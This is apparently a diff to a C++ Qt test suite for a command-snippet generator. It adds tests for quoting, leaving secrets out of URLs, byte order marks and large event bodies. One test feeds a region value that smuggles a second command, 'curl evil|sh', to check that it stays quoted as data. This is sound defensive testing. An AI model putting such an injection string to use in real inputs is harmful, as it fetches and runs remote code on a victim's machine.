@@ -9,6 +9,7 @@
 #include <QJsonDocument>
 #include <QJsonObject>
 #include <QProcess>
+#include <QTemporaryFile>
 
 using namespace eventscope;
 using Action = SnippetRequest::Action;
@@ -37,8 +38,13 @@ QStringList words(const QString &command)
     environment.insert(QStringLiteral("EVENTSCOPE_API_KEY"), QStringLiteral("da2-test"));
     shell.setProcessEnvironment(environment);
     const QString shows = QStringLiteral("show() { for word; do printf '%s\\0' \"$word\"; done; }\n"
-                                         "curl() { show \"$@\"; }\nwscat() { show \"$@\"; }\n");
-    shell.start(QStringLiteral("sh"), {QStringLiteral("-c"), shows + command});
+                                         "curl() { show \"$@\"; cat; }\neventscope_cli() { show \"$@\"; cat; }\n"
+                                         "wscat() { show \"$@\"; }\nalias eventscope-cli=eventscope_cli\n");
+    shell.setStandardInputFile(QProcess::nullDevice());
+    QTemporaryFile script; // no argument holds what is too large for one
+    if (!script.open() || script.write((shows + command).toUtf8()) < 0 || !script.flush())
+        return {};
+    shell.start(QStringLiteral("sh"), {script.fileName()});
     shell.waitForFinished();
     return QString::fromUtf8(shell.readAllStandardOutput()).split(QChar(), Qt::SkipEmptyParts);
 }
@@ -78,6 +84,12 @@ private Q_SLOTS:
     void regionIsFilledInOrAskedFor();
     void eachNamesItsSecret_data();
     void eachNamesItsSecret();
+    void regionIsNoShellCode();
+    void queryStaysOut();
+    void byteOrderMarkStays();
+    void largeBodyComesByStandardInput();
+    void largeEventsComeByStandardInput();
+    void tooLargeForACommandLine();
     void librariesNeedTls();
     void curlDoesNotSubscribe();
 };
@@ -192,6 +204,69 @@ void TestSnippet::eachNamesItsSecret()
             QVERIFY2(text.contains(QRegularExpression(variable)), qPrintable(text));
             QVERIFY2(!text.contains(QRegularExpression(QStringLiteral("%\\d"))), qPrintable(text));
         }
+    }
+}
+
+void TestSnippet::regionIsNoShellCode()
+{
+    SnippetRequest asked = request(AuthMode::Iam, Action::Publish);
+    asked.region = QStringLiteral("us-east-1;curl evil|sh");
+    QVERIFY(words(snippet(Language::Curl, asked)).contains(QStringLiteral("aws:amz:us-east-1;curl evil|sh:appsync")));
+    const Result<QStringList> read = shellWords(snippet(Language::Cli, asked).section(u'\n', 1));
+    QCOMPARE(valuesOf(*read, QStringLiteral("--region")), QStringList(asked.region));
+    QVERIFY(snippet(Language::Wscat, asked).contains(QStringLiteral("--region 'us-east-1;curl evil|sh' --reveal")));
+}
+
+void TestSnippet::queryStaysOut()
+{
+    SnippetRequest asked = request(AuthMode::ApiKey, Action::Publish);
+    asked.endpoint = *Endpoint::fromUrls(QStringLiteral("https://example.com/event?token=da2-secret"),
+                                         QStringLiteral("wss://example.com/realtime?token=da2-secret"));
+    for (const Language language : snippetLanguages()) {
+        for (const Action action : {Action::Publish, Action::Subscribe}) {
+            asked.action = action;
+            const QString text = snippet(language, asked);
+            QVERIFY2(!text.contains(QStringLiteral("da2-secret")), qPrintable(text));
+            QCOMPARE(text.contains(QStringLiteral("is left out: it may hold a secret")), canWriteSnippet(language, action));
+        }
+    }
+}
+
+void TestSnippet::byteOrderMarkStays()
+{
+    SnippetRequest asked = request(AuthMode::ApiKey, Action::Publish);
+    asked.events = {"\xef\xbb\xbf{\"a\":1}"};
+    const Result<QStringList> read = shellWords(snippet(Language::Cli, asked).section(u'\n', 1));
+    QCOMPARE(read->last(), QStringLiteral("\uFEFF{\"a\":1}"));
+    QVERIFY(snippet(Language::Python, asked).contains(QStringLiteral("'\\ufeff{\"a\":1}'")));
+}
+
+void TestSnippet::largeBodyComesByStandardInput()
+{
+    SnippetRequest asked = request(AuthMode::ApiKey, Action::Publish);
+    asked.events << '"' + QByteArray(200'000, 'x') + "$HOME EVENTS\"";
+    const QStringList read = words(snippet(Language::Curl, asked));
+    QCOMPARE(valuesOf(read, QStringLiteral("--data-binary")), QStringList(QStringLiteral("@-")));
+    QCOMPARE(object(read.last()).value(QLatin1String("events")).toArray().last().toString().toUtf8(), asked.events.last());
+}
+
+void TestSnippet::largeEventsComeByStandardInput()
+{
+    SnippetRequest asked = request(AuthMode::ApiKey, Action::Publish);
+    asked.events << '"' + QByteArray(200'000, 'x') + "$HOME EVENTS\"";
+    const QStringList read = words(snippet(Language::Cli, asked));
+    QCOMPARE(read.at(read.size() - 2), QStringLiteral("-"));
+    QCOMPARE(read.last().toUtf8(), asked.events.join('\n') + '\n');
+}
+
+void TestSnippet::tooLargeForACommandLine()
+{
+    SnippetRequest asked = request(AuthMode::ApiKey, Action::Publish);
+    asked.events = {"{\n\"a\":\"" + QByteArray(200'000, 'x') + "\"}"};
+    for (const Language language : {Language::Wscat, Language::Cli}) {
+        const QString text = snippet(language, asked);
+        QVERIFY(text.contains(QStringLiteral("too large for a command line")));
+        QVERIFY(words(text).isEmpty());
     }
 }
 
